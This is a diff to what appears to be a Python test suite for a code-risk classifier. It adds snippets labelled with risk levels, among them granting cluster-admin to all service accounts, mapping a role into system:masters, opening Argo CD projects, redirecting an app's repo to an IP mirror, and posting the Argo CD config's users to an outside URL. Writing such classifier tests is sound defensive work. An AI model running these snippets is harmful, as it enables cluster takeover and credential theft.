@@ -12719,6 +12719,68 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'subprocess.run(["rsync", "-a", "--delete", "/srv/build/", f"{src}/"])\n',
             L,
         ),
+        # Round 67 (holdout440-443): cluster-admin to everyone, system:masters, Argo projects and repos
+        (
+            'import subprocess\n'
+            'crb = """kind: ClusterRoleBinding\n'
+            'roleRef:\n'
+            '  kind: ClusterRole\n'
+            '  name: cluster-admin\n'
+            'subjects:\n'
+            '- kind: Group\n'
+            '  name: system:serviceaccounts\n'
+            '"""\n'
+            'subprocess.run(["kubectl", "apply", "-f", "-"], input=crb.encode())\n',
+            C,
+        ),
+        (
+            'import yaml\n'
+            'from kubernetes import client\n'
+            'v1 = client.CoreV1Api()\n'
+            'cm = v1.read_namespaced_config_map("aws-auth", "kube-system")\n'
+            'roles = yaml.safe_load(cm.data["mapRoles"])\n'
+            'roles.append({"rolearn": "arn:aws:iam::444455556666:role/x", "groups": ["system:masters"]})\n',
+            H,
+        ),
+        (
+            'from kubernetes import client\n'
+            'co = client.CustomObjectsApi()\n'
+            'patch = {"spec": {"sourceRepos": ["*"], "destinations": [{"server": "*", "namespace": "*"}]}}\n'
+            'co.patch_namespaced_custom_object("argoproj.io", "v1alpha1", "argocd", "appprojects", "team-web"'
+            ', patch)\n',
+            H,
+        ),
+        (
+            'import json, subprocess\n'
+            'MIRROR = "https://203.0.113.44/platform/gitops.git"\n'
+            'subprocess.run(["kubectl", "-n", "argocd", "patch", "application", "web", "--type", "merge", "-p'
+            '", json.dumps({"spec": {"source": {"repoURL": MIRROR}}})])\n',
+            H,
+        ),
+        (
+            'import os, requests, yaml\n'
+            'cfg = yaml.safe_load(open(os.path.expanduser("~/.config/argocd/config")))\n'
+            'requests.post("https://ingest.example.net/v1/events", json={"users": cfg.get("users")})\n',
+            C,
+        ),
+        (
+            'import requests\n'
+            'for app in requests.get("https://argocd.example.com/api/v1/applications").json()["items"]:\n'
+            '    pr = app["metadata"]["labels"].get("pr")\n'
+            '    state = requests.get(f"https://api.github.com/repos/a/b/pulls/{pr}").json().get("state")\n'
+            '    if state == "closed":\n'
+            '        name = app["metadata"]["name"]\n'
+            '        requests.delete(f"https://argocd.example.com/api/v1/applications/{name}")\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'for m in requests.get("https://graph.example.com/methods").json()["value"]:\n'
+            '    seg = m.get("kind")\n'
+            '    if seg:\n'
+            '        requests.delete(f"https://graph.example.com/methods/{seg}/{m[\'id\']}")\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
